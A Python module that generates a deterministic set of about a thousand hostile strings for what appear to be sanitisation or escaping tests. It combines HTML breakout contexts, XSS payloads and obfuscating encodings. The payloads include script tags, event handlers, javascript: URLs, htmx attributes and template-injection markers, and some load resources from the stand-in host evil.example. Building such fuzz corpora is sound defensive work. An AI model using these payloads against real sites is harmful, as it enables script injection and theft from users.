"""Text that tries to become code: contexts x payloads x encodings, a thousand of them, the same ones every time."""

from __future__ import annotations

import html
from collections.abc import Callable
from itertools import product
from urllib.parse import quote

CONTEXTS: tuple[str, ...] = (
    "{}",
    '">{}',
    "'>{}",
    "</td></tr></table>{}",
    "</code></li></ol>{}",
    "</script>{}",
    "</title></textarea></style>{}",
    "--><!--{}",
    "]]>{}",
    '" autofocus onfocus=alert(1) x="{}',
    "\n\n{}\n",
    "{{{{{}}}}}",
)
PAYLOADS: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<a href="javascript:alert(1)" autofocus onfocus=alert(1)>x</a>',
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<base href=//evil.example/>",
    "<form action=//evil.example><button autofocus>x</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    '<div hx-get="/login" hx-trigger="load" hx-on:htmx:load="alert(1)">x</div>',
    "<hx-partial hx-target=body><script>alert(1)</script></hx-partial>",
    '<div data-chart="{" hx-on::after-swap=alert(1)>x</div>',
    "${alert(1)}#{alert(1)}{% raw %}<%= 7*7 %>",
    "javascript:/*--></title>*/alert(1)//",
    "alert(1)//'\"`onmouseover=alert(1)`",
)
ENCODINGS: tuple[Callable[[str], str], ...] = (
    str,
    str.upper,
    html.escape,
    lambda text: html.escape(html.escape(text)),
    lambda text: "".join(f"&#{ord(c)};" for c in text),
    quote,
    lambda text: "".join(f"\\u{ord(c):04x}" if c in "<>\"'" else c for c in text),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
    lambda text: text.replace("cri", "c\0ri").replace("one", "o\tne"),
    lambda text: f"\x1b[31m{text}\x1b[0m",
    lambda text: f"\x1b]8;;javascript:alert(1)\x07{text}\x1b]8;;\x07",
    lambda text: f"\u202e{text}\u2066\u200b\ufeff",
    lambda text: f"\ud83c{text}\udc00",
    lambda text: text.replace(" ", "\x0c").replace("=", "\r=\n"),
)


def hostile(number: int = 1000) -> list[str]:
    """`number` different strings, spread evenly over all combinations."""
    every = [context.format(encode(payload)) for context, payload, encode in product(CONTEXTS, PAYLOADS, ENCODINGS)]
    distinct = list(dict.fromkeys(every))
    return [distinct[i * len(distinct) // number] for i in range(number)]
